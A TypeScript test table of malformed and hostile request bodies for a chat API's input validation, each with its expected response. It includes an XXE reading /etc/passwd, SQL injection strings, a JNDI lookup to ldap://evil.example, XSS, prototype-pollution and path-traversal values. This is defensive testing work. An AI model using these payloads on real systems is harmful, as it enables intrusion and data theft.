// Longer than most files: a table.
import type {Answer, TestApp} from './check.ts';

/** A body for one of the six routes that take one, and what is answered. */
export interface BodyCase {
  route: 'chat' | 'session' | 'title' | 'feedback' | 'function' | 'action';
  body: string | Uint8Array | object;
  answer: Answer;
  headers?: Record<string, string>;
}

const malformed = [400, 'body_malformed'] as const;
const invalid = [400, 'body_invalid'] as const;
const tooLarge = [413, 'body_too_large'] as const;
const unsupported = [415, 'content_type_unsupported'] as const;
const noContext = [401, 'context_invalid'] as const;
const noIdentity = [401, 'identity_invalid'] as const;
const noAction = [404, 'not_found'] as const;
const noTenant = [404, 'tenant_unknown'] as const;

const KIB_64 = 64 * 1024;

const text = (words: unknown) => ({type: 'text', text: words});
const message = (more: object = {}) => ({id: 'm1', role: 'user', parts: [text('Hi')], ...more});
const question = (more: object = {}) => ({id: 'c1', messages: [message()], ...more});
const says = (words: unknown) => question({messages: [message({parts: [text(words)]})]});
const json = (more: object = {}) => JSON.stringify(question(more));

const chat = (body: BodyCase['body'], answer: Answer = invalid, headers?: Record<string, string>): BodyCase => ({
  route: 'chat',
  body,
  answer,
  ...(headers === undefined ? {} : {headers}),
});
const to =
  (route: BodyCase['route']) =>
  (body: BodyCase['body'], answer: Answer = invalid): BodyCase => ({route, body, answer});
const session = to('session');
const title = to('title');
const feedback = to('feedback');
/** Of a change that nobody proposed: a good body is answered as for every other one that is not hers. */
const decide = to('action');
/** With Alice's context token, unless it brings one. */
const call = to('function');

/** A good question with something put behind its brace. */
const withTail = (tail: string) => `${json().slice(0, -1)},${tail}}`;

/** A good question, filled up to `bytes` with a field that nobody reads. */
const ofSize = (bytes: number) => {
  const start = `${json().slice(0, -1)},"pad":"`;
  return `${start}${'p'.repeat(bytes - start.length - 2)}"}`;
};

const bytesOf = (start: number[], body: string, end: number[] = []) =>
  new Uint8Array([...start, ...Buffer.from(body), ...end]);

export const BODIES: Readonly<Record<string, BodyCase>> = {
  // Not JSON
  'no body': chat('', malformed),
  'white space': chat(' \n\t', malformed),
  'one word': chat('hello', malformed),
  'a form': chat('id=c1&messages=x', malformed),
  XML: chat('<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>', malformed),
  'single quotes': chat("{'id': 'c1'}", malformed),
  'a comma at the end': chat(`${json().slice(0, -1)},}`, malformed),
  'a comment': chat(`/* */${json()}`, malformed),
  'two objects': chat(json() + json(), malformed),
  'cut in the middle': chat(json().slice(0, -9), malformed),
  'cut in an escape': chat('{"id":"c1\\u00', malformed),
  'NaN, which JSON has not': chat(withTail('"a":NaN'), malformed),
  'a hexadecimal number': chat(withTail('"a":0x10'), malformed),
  'a NUL before it': chat(`\0${json()}`, malformed),
  'a NUL behind it': chat(`${json()}\0`, malformed),
  'a raw line break in a string': chat(json().replace('Hi', 'H\ni'), malformed),
  // Encodings (RFC 8259, 8.1: UTF-8; a parser may pass over the mark)
  'a byte order mark': chat(bytesOf([0xef, 0xbb, 0xbf], json()), 200),
  'UTF-16, little end first': chat(Buffer.from(`\ufeff${json()}`, 'utf16le'), malformed),
  'UTF-16 without a mark': chat(Buffer.from(json(), 'utf16le'), malformed),
  'a byte that is no UTF-8': chat(bytesOf([], json(), [0xff]), malformed),
  'an overlong slash': chat(bytesOf([0x7b, 0x22, 0xc0, 0xaf, 0x22], ':1}'), malformed),
  'half a character at the end': chat(bytesOf([], json(), [0xe2, 0x82]), malformed),
  'a surrogate as UTF-8': chat(bytesOf([0x22, 0xed, 0xa0, 0x80, 0x22], ''), malformed),
  'a lone surrogate in a message': chat(
    '{"id":"c1","messages":[{"role":"user","parts":[{"type":"text","text":"a\\ud800b"}]}]}',
    200,
  ),
  'a lone surrogate in an id': chat('{"id":"\\udfff","messages":[]}'),
  'a NUL in a message': chat(says('a\0b'), 200),
  'another charset that is said': chat(json(), 200, {'content-type': 'application/json; charset=utf-16'}),
  // Sizes
  'exactly 64 KiB': chat(ofSize(KIB_64), 200),
  'one byte more': chat(ofSize(KIB_64 + 1), tooLarge),
  'a length that is too large, and a short body': chat(json(), tooLarge, {'content-length': '65537'}),
  'a length that is too small, and a long body': chat(ofSize(KIB_64 + 1), tooLarge, {'content-length': '2'}),
  'a length beyond all numbers': chat(json(), tooLarge, {'content-length': '9'.repeat(400)}),
  'a negative length': chat(json(), 200, {'content-length': '-1'}),
  'a length of words': chat(json(), 200, {'content-length': 'many'}),
  '10,000 messages': chat(`{"id":"c1","messages":[${'0,'.repeat(9_999)}${JSON.stringify(message())}]}`, 200),
  '10,001 messages': chat(`{"id":"c1","messages":[${'0,'.repeat(10_000)}${JSON.stringify(message())}]}`),
  '1,001 parts': chat(question({messages: [message({parts: Array.from({length: 1_001}, () => text('a'))})]})),
  '8,000 characters': chat(says('a'.repeat(8_000)), 200),
  '8,001 characters': chat(says('a'.repeat(8_001)), [413, 'message_too_long']),
  '8,001 characters in two parts': chat(
    question({messages: [message({parts: [text('a'.repeat(8_000)), text('b')]})]}),
    [413, 'message_too_long'],
  ),
  // Depth
  'depth 32': chat(withTail(`"a":${'['.repeat(31)}${']'.repeat(31)}`), 200),
  'depth 33': chat(withTail(`"a":${'['.repeat(32)}${']'.repeat(32)}`), malformed),
  'depth 33 of objects': chat(withTail(`"a":${'{"a":'.repeat(32)}1${'}'.repeat(32)}`), malformed),
  '60,000 brackets': chat('['.repeat(60_000), malformed),
  'a million brackets': chat('['.repeat(1_000_000), tooLarge),
  'brackets that are words': chat(says('['.repeat(7_000)), 200),
  'brackets behind an escaped quote': chat(says(`\\"${'['.repeat(100)}`), 200),
  'a string that does not end before its brackets': chat(`{"a":"${'['.repeat(100)}`, malformed),
  // Keys
  'an id twice: the last counts': chat('{"id":"../x",'.concat(json().slice(1)), 200),
  'a key __proto__': chat(withTail('"__proto__":{"isAdmin":true,"agent":"x"}'), 200),
  'a message that is in the prototype': chat('{"id":"c1","messages":[{"__proto__":{"role":"user","parts":[]}}]}'),
  'messages that are in the prototype': chat('{"id":"c1","__proto__":{"messages":[]}}'),
  'a constructor with a prototype': chat(withTail('"constructor":{"prototype":{"role":"user"}}'), 200),
  'a toString that is no function': chat(withTail('"toString":1,"valueOf":{},"hasOwnProperty":null'), 200),
  'a message with a toJSON': chat(question({messages: [message({toJSON: 'x', valueOf: 'y'})]}), 200),
  'fields of the server': chat(question({tenant: 'acme', subject: 'bob', principal: {roles: ['admin']}}), 200),
  // Numbers
  'an id beyond all numbers': chat('{"id":1e999,"messages":[]}'),
  'minus zero for messages': chat('{"id":"c1","messages":-0}'),
  'a number of 5,000 digits': chat(withTail(`"a":${'9'.repeat(5_000)}`), 200),
  'a text that is a number': chat(says(1e21)),
  // Kinds
  'a list for the whole': chat([question()]),
  'null for the whole': chat('null'),
  'a string for the whole': chat('"c1"'),
  'an id that is a list': chat(question({id: ['c1']})),
  'an id that is null': chat(question({id: null})),
  'messages that are an object': chat(question({messages: {0: message(), length: 1}})),
  'messages that are a string': chat(question({messages: 'Hi'})),
  'no messages': chat(question({messages: []})),
  'messages of null': chat(question({messages: [null, null]})),
  'messages of lists': chat(question({messages: [[message()]]})),
  'a role that is a list': chat(question({messages: [message({role: ['user']})]})),
  'no message of the user': chat(question({messages: [message({role: 'system'}), message({role: 'assistant'})]})),
  'parts that are an object': chat(question({messages: [message({parts: {0: text('Hi'), length: 1}})]})),
  'parts of null': chat(question({messages: [message({parts: [null]})]})),
  'a text that is an object': chat(says({toString: 'Hi'})),
  'a text that is a list': chat(says(['Hi'])),
  'no text': chat(says('')),
  'white space for a text': chat(says(' \n\u00a0\u2003')),
  'a file': chat(question({messages: [message({parts: [text('Hi'), {type: 'file', url: 'file:///etc/passwd'}]})]})),
  'an unknown trigger': chat(question({trigger: 'delete-message'})),
  'a trigger that is a list': chat(question({trigger: ['submit-message']})),
  'an agent that is an object': chat(question({agent: {id: 'support'}})),
  'an agent of another tenant': chat(question({agent: 'optimizer'}), [400, 'agent_unknown']),
  'an agent from the prototype': chat(question({agent: '__proto__'}), [400, 'agent_unknown']),
  'an agent with a path': chat(question({agent: '../support'}), [400, 'agent_unknown']),
  // Ids, which stand in paths
  ...Object.fromEntries(
    [
      '',
      '.',
      '..',
      'a/b',
      '../c1',
      '..%2fc1',
      '%2e%2e',
      'a\\b',
      'a\0',
      'a\r\nid: x',
      'c1 ',
      'a'.repeat(129),
      '\u{1f600}',
      'c\u0301',
      "c1' OR '1'='1",
      "c1'; DROP TABLE turns; --",
      'c1" OR 1=1 --',
      '{{7*7}}',
      '$' + '{jndi:ldap://evil.example/a}',
      '<script>',
    ].map((id) => [`the id ${JSON.stringify(id).slice(0, 40)}`, chat(question({id}))]),
  ),
  'an id of 128 characters': chat(question({id: 'a'.repeat(128)}), 200),
  'an id of dots': chat(question({id: '...'}), 200),
  "a message's id with a path": chat(question({messages: [message({id: '../m1'})]})),
  "a message's id with SQL": chat(question({messages: [message({id: "m1') --"})]})),
  'the id of an answer that is no id': chat(question({trigger: 'regenerate-message', messageId: "x' --"})),
  'the id of an answer that is not there': chat(question({trigger: 'regenerate-message', messageId: 'nothing'}), 200),
  // SQL and HTML are words like others
  'SQL in a message': chat(says("'); DELETE FROM conversations; --"), 200),
  'HTML in a message': chat(says('<img src=x onerror=alert(1)>'), 200),
  'a format in a message': chat(says('%s%n%x {0} $1 $& $`'), 200),
  // Types of content
  'no type': chat(json(), unsupported, {'content-type': ''}),
  'plain text': chat(json(), unsupported, {'content-type': 'text/plain'}),
  'JSON with a line a value': chat(json(), unsupported, {'content-type': 'application/x-ndjson'}),
  'a type that begins like JSON': chat(json(), unsupported, {'content-type': 'application/jsonp'}),
  'a patch of JSON': chat(json(), unsupported, {'content-type': 'application/json-patch+json'}),
  'a sequence of JSON': chat(json(), unsupported, {'content-type': 'application/json-seq'}),
  'two types': chat(json(), unsupported, {'content-type': 'application/json, text/plain'}),
  'JSON with a slash more': chat(json(), unsupported, {'content-type': 'application/json/x'}),
  'JSON in capitals, with a parameter': chat(json(), 200, {'content-type': 'Application/JSON ;charset=UTF-8'}),
  // Sessions
  'a tenant that is a list': session({tenant: ['wincloud']}),
  'a tenant that is an object': session({tenant: {id: 'wincloud'}}),
  'a tenant from the prototype': session({tenant: '__proto__'}, noTenant),
  'a tenant named as a method': session({tenant: 'constructor'}, noTenant),
  'a tenant in capitals': session({tenant: 'WinCloud'}, noTenant),
  'a tenant with a space': session({tenant: 'wincloud '}, noTenant),
  'a tenant with a NUL': session({tenant: 'wincloud\0'}, noTenant),
  'a tenant with SQL': session({tenant: "wincloud' --"}, noTenant),
  'a tenant that is too long': session({tenant: 'w'.repeat(41)}),
  'an identity that is too long': session({tenant: 'wincloud', identity: 'a'.repeat(16_385)}),
  'a visitor that is a number': session({tenant: 'wincloud', visitor: 1}),
  'a visitor that is too long': session({tenant: 'wincloud', visitor: 'v'.repeat(257)}),
  'a visitor with SQL': session({tenant: 'wincloud', visitor: "' OR 1=1 --"}, noIdentity),
  // Titles
  'HTML for a title': title({title: '<script>alert(1)</script>'}, 200),
  'SQL for a title': title({title: "x', subject = 'bob' --"}, 200),
  'a lone surrogate for a title': title('{"title":"a\\ud800"}', 200),
  'no title': title({title: ' '}),
  'a title that is too long': title({title: 't'.repeat(121)}),
  'a title that is a list': title({title: ['x']}),
  'an owner with the title': title({title: 'Mine', subject: 'bob', tenant: 'acme', id: 'c2'}, 200),
  // Opinions
  'an unknown rating': feedback({rating: 'best'}),
  'a rating of 1': feedback({rating: 1}),
  'a rating beyond all numbers': feedback('{"rating":1e999}'),
  'a rating from the prototype': feedback('{"__proto__":{"rating":"up"}}'),
  'no rating': feedback({}),
  'a reason that is an object': feedback({rating: 'up', reason: {a: 1}}),
  'a reason that is too long': feedback({rating: 'up', reason: 'r'.repeat(1_001)}),
  'SQL for a reason': feedback({rating: 'down', reason: "'); DROP TABLE feedback; --"}, 200),
  'HTML for a reason': feedback({rating: 'down', reason: '<svg onload=alert(1)>'}, 200),
  // Decisions
  'a decision about nothing': decide({decision: 'confirm'}, noAction),
  'a decision with arguments of its own': decide(
    {decision: 'confirm', arguments: {droplet_id: 7}, tool: 'x'},
    noAction,
  ),
  'no decision': decide({}),
  'another decision': decide({decision: 'execute'}),
  'a decision that is true': decide({decision: true}),
  'a decision that is a list': decide({decision: ['confirm']}),
  'a decision from the prototype': decide('{"__proto__":{"decision":"confirm"}}'),
  'a name that is an object': decide({decision: 'confirm', typedName: {$ne: ''}}),
  'a name that is null': decide({decision: 'confirm', typedName: null}),
  'a name that is too long': decide({decision: 'confirm', typedName: 'n'.repeat(257)}),
  'a signature that is a number': decide({decision: 'confirm', signature: 1}),
  'a signature that is too long': decide({decision: 'confirm', signature: 's'.repeat(257)}),
  'SQL for a name': decide({decision: 'confirm', typedName: "'; DROP TABLE actions; --"}, noAction),
  // Arguments of functions
  'a server that is not hers': call({name: 'sql-prod-7'}),
  'the number of a server that is not hers': call({name: '9066'}),
  'no server': call({}),
  'a server that is a number': call({name: 9066}),
  'a server that is a list': call({name: ['win-web-01']}),
  'a server that is a condition': call({name: {$ne: ''}}),
  'SQL for a server': call({name: "' OR 1=1 --"}),
  'a path for a server': call({name: '../../v2/customers/my/balance'}),
  'a server in the prototype': call('{"__proto__":{"name":"win-web-01"}}', noContext),
  'arguments in a list': call('[{"name":"win-web-01"}]'),
  'arguments that are nested': call({name: 'win-web-01', scope: {tag: 'wc-user-bob'}}),
  'a context token that is an object': call({name: 'win-web-01', context_token: {sub: 'alice'}}, noContext),
  'a context token that is true': call({name: 'win-web-01', context_token: true}, noContext),
  'a context token that is long': call({name: 'win-web-01', context_token: `${'e'.repeat(60_000)}.e.e`}, noContext),
  'a user beside the context token': call({name: 'win-web-01', user_token: 'x', sub: 'bob', tenant: 'acme'}),
};

/** Sends one of them as Alice, who has a conversation `c1` with one answer. */
export function sendBody(
  {app}: TestApp,
  {route, body, headers}: BodyCase,
  of: {token: string; messageId: string; origin: string; contextToken: string},
) {
  const [method, path] = {
    chat: ['POST', '/v1/chat'],
    session: ['POST', '/v1/session'],
    title: ['PATCH', '/v1/chat/c1'],
    feedback: ['POST', `/v1/chat/c1/messages/${of.messageId}/feedback`],
    function: ['POST', '/v1/functions/get_droplet'],
    action: ['POST', '/v1/chat/c1/actions/none'],
  }[route] as [string, string];
  const sent = route === 'function' && typeof body === 'object' ? {context_token: of.contextToken, ...body} : body;
  return app.request(path, {
    method,
    headers: {
      origin: of.origin,
      authorization: `Bearer ${of.token}`,
      'content-type': 'application/json',
      ...headers,
    },
    body: typeof sent === 'string' || sent instanceof Uint8Array ? (sent as BodyInit) : JSON.stringify(sent),
  });
}
